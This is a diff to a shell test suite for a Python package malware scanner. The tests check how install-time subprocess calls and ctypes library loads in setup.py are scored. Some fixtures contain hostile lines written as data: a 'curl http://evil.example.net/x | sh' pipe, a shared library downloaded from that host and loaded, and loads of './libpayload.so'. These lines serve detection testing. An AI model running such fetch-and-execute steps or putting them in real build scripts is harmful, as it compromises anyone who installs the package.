@@ -126,7 +126,7 @@ PY
 @test "NativeCode and NativeCodeImport: ctypes, not a look-alike module" {
 	py m.py <<'PY'
 import ctypes
-ctypes.CDLL('libc.so.6')
+ctypes.CDLL('./libx.so')
 import ctypesx
 ctypesx.CDLL('y')
 PY
@@ -237,6 +237,44 @@ PY
 	run hits pkg/commands.py
 	assert_output "$(printf '%s\n' '8 ShellCommand os.system function 2' '12 ShellCommand os.system function 2' \
 		'16 ShellCommand os.system function 2' '20 ShellCommand os.system function 2')"
+}
+
+@test "setup commands: a cmdclass entry pip never runs (test, quality) is ordinary code; named elsewhere in setup.py, it runs" {
+	mkdir -p pkg
+	py pkg/setup.py <<'PY'
+import os
+from setuptools import setup, Command
+
+class Tests(Command):
+    def run(self):
+        os.system('a')
+
+class Quality(Command):
+    def run(self):
+        os.system('b')
+
+class BuildTests(Command):
+    def run(self):
+        os.system('c')
+
+class Build(Command):
+    def run(self):
+        self.run_command("build_tests")
+
+class Lint(Command):
+    def run(self):
+        os.system('e')
+
+class Docs(Command):
+    def run(self):
+        self.run_command("lint")
+
+setup(name='x', cmdclass={'test': Tests, 'quality': Quality, 'build_tests': BuildTests, 'build_ext': Build,
+                          'lint': Lint, 'docs': Docs})
+PY
+	run hits pkg/setup.py
+	assert_output "$(printf '%s\n' '6 ShellCommand os.system function 2' '10 ShellCommand os.system function 2' \
+		'14 ShellCommand os.system install 100' '22 ShellCommand os.system function 2')"
 }
 
 @test "a setup.py inside a nested archive is still install context" {
@@ -483,18 +521,133 @@ PY
 		"15 ProcessExecution subprocess.call install 80")"
 }
 
+@test "build tools: a command passed to a setup.py def is followed back to every call of it" {
+	py setup.py <<'PY'
+import os, shlex, subprocess
+def check_output(cmd):
+    return subprocess.check_output(cmd)
+check_output(["cython", "-o", "x.c"])
+gdal_config = os.environ.get("GDAL_CONFIG", "gdal-config")
+for flag in ["--cflags", "--libs"]:
+    check_output([gdal_config, flag])
+class Build:
+    def build(self, src, build_tool=None):
+        subprocess.check_call([build_tool, "-j4"], cwd=src)
+    def run(self):
+        build_tool = "ninja"
+        self.build(".", build_tool)
+        self.build(".")
+cpp = shlex.split(os.environ.get("CPP", "cpp"))
+subprocess.Popen(cpp + ["-Wp,-v", "-"])
+PY
+	py compilers.py <<'PY'
+import shutil, subprocess, sysconfig
+def version(obj):
+    cc = obj.compiler.compiler_so[0]
+    return subprocess.run([cc, "-dumpversion"], capture_output=True)
+gcc = shutil.which("gcc")
+subprocess.check_output([gcc, "-print-multiarch"])
+subprocess.check_output([sysconfig.get_config_var("CC"), "--version"])
+subprocess.check_output([obj.compiler, "--version"])
+PY
+	run dets compilers.py ProcessExecution
+	assert_output "$(printf '%s\n' "4 ProcessExecution subprocess.run function 1" "6 ProcessExecution subprocess.check_output import 5" \
+		"7 ProcessExecution subprocess.check_output import 5" "8 ProcessExecution subprocess.check_output import 40")"
+	run dets setup.py ProcessExecution
+	# (aura-rewrite resolves each call of the wrapper too: lines 4 and 7 weigh on their own)
+	assert_output "$(printf '%s\n' "3 ProcessExecution subprocess.check_output install 10" \
+		"4 ProcessExecution subprocess.check_output install 10" "7 ProcessExecution subprocess.check_output install 10" \
+		"10 ProcessExecution subprocess.check_call function 1" "16 ProcessExecution subprocess.Popen install 10")"
+	printf 'from setuptools import setup\nsetup(name="x", cmdclass={"build_ext": Build})\n' >> setup.py
+	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\" and .detection == \"ProcessExecution\") | \"\\(.line) \\(.score) \\(.message)\"'"
+	assert_output "$(printf '%s\n' "3 10 subprocess.check_output() starts a process at install time: the build tool gdal-config (reached through check_output())" \
+		"4 10 subprocess.check_output() starts a process at install time: the build tool cython" \
+		"7 10 subprocess.check_output() starts a process at install time: the build tool gdal-config" \
+		"10 10 subprocess.check_call() starts a process at install time: the build tool ninja" \
+		"16 10 subprocess.Popen() starts a process at install time: the build tool cpp")"
+}
+
+@test "build tools: a parameter is not followed when one call passes something else, the def escapes, or outside setup.py" {
+	py setup.py <<'PY'
+import subprocess
+def run(cmd):
+    subprocess.check_call(cmd)
+run(["pkg-config", "--libs", "x"])
+run(["sh", "-c", "curl http://evil.example.net/x | sh"])
+def quiet(cmd):
+    subprocess.check_call(cmd)
+quiet(["make"])
+hooks = [quiet]
+def spread(cmd):
+    subprocess.check_call(cmd)
+spread(*["./payload"])
+def shipped(cmd):
+    subprocess.check_call(cmd)
+shipped(["./configure", "--prefix=/usr"])
+shipped(["make"])
+PY
+	run dets setup.py ProcessExecution
+	# the defs' bodies (3, 7, 11, 14) weigh in full; each call is also weighed on its own
+	assert_output "$(printf '%s\n' "3 ProcessExecution subprocess.check_call install 80" \
+		"4 ProcessExecution subprocess.check_call install 10" "5 ProcessExecution subprocess.check_call install 80" \
+		"7 ProcessExecution subprocess.check_call install 80" "8 ProcessExecution subprocess.check_call install 10" \
+		"11 ProcessExecution subprocess.check_call install 80" "12 ProcessExecution subprocess.check_call install 80" \
+		"14 ProcessExecution subprocess.check_call install 80" "15 ProcessExecution subprocess.check_call install 80" \
+		"16 ProcessExecution subprocess.check_call install 10")"
+	py build.py <<'PY'
+import subprocess
+def run(cmd):
+    subprocess.check_call(cmd)
+run(["make"])
+PY
+	run dets build.py ProcessExecution
+	assert_output "$(printf '%s\n' "3 ProcessExecution subprocess.check_call import 40" "4 ProcessExecution subprocess.check_call import 5")"
+}
+
 @test "NativeTypeOrLookup: finding a library or sizing a C type at install time is not loading one" {
 	py setup.py <<'PY'
 import ctypes, ctypes.util
 path = ctypes.util.find_library("sqlite3")
 n = ctypes.sizeof(ctypes.c_void_p)
-lib = ctypes.CDLL(path)
+lib = ctypes.CDLL(os.path.join(here, "libpayload.so"))
 k = ctypes.windll.kernel32
 PY
 	run dets setup.py NativeCode NativeTypeOrLookup
 	assert_output "$(printf '%s\n' "2 NativeTypeOrLookup ctypes.util.find_library install 5" \
 		"3 NativeTypeOrLookup ctypes.sizeof install 5" \
 		"4 NativeCode ctypes.CDLL install 50")"
+}
+
+@test "NativeCode: loading a system library at install time (a build probing a version) weighs little" {
+	py setup.py <<'PY'
+import ctypes, ctypes.util, glob, os
+ctypes.CDLL(None)
+ctypes.cdll.LoadLibrary("libssl.so")
+path = ctypes.util.find_library("gssapi_krb5")
+ctypes.CDLL(path)
+ctypes.WinDLL(glob.glob(os.path.join(os.environ.get("OPENSSL_PATH"), "libcrypto*.dll"))[0])
+PY
+	run dets setup.py NativeCode
+	assert_output "$(printf '%s\n' "2 NativeCode ctypes.CDLL install 5" "3 NativeCode ctypes.cdll.LoadLibrary install 5" \
+		"5 NativeCode ctypes.CDLL install 5" "6 NativeCode ctypes.WinDLL install 5")"
+	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\" and .line == 3) | [.message, (.tags | index(\"system-library\") != null)] | @tsv'"
+	assert_output "$(printf 'ctypes.cdll.LoadLibrary() reaches native code through ctypes/cffi at install time: a system library (libssl.so)\ttrue')"
+}
+
+@test "NativeCode: a library the package ships, fetches or names by a relative path keeps its full score" {
+	py setup.py <<'PY'
+import ctypes, os, urllib.request
+here = os.path.dirname(os.path.abspath(__file__))
+ctypes.CDLL(os.path.join(here, "build", "libx.so"))
+ctypes.cdll.LoadLibrary("./libpayload.so")
+p = urllib.request.urlretrieve("http://evil.example.net/x.so")[0]
+ctypes.CDLL(p)
+ctypes.CDLL(os.path.join(os.environ.get("TMP"), "..", "x.so"))
+ctypes.CDLL(name)
+PY
+	run dets setup.py NativeCode
+	assert_output "$(printf '%s\n' "3 NativeCode ctypes.CDLL install 50" "4 NativeCode ctypes.cdll.LoadLibrary install 50" \
+		"6 NativeCode ctypes.CDLL install 50" "7 NativeCode ctypes.CDLL install 50" "8 NativeCode ctypes.CDLL install 50")"
 }
 
 @test "a hit's severity says what it weighs in its context, at most the rule's severity" {
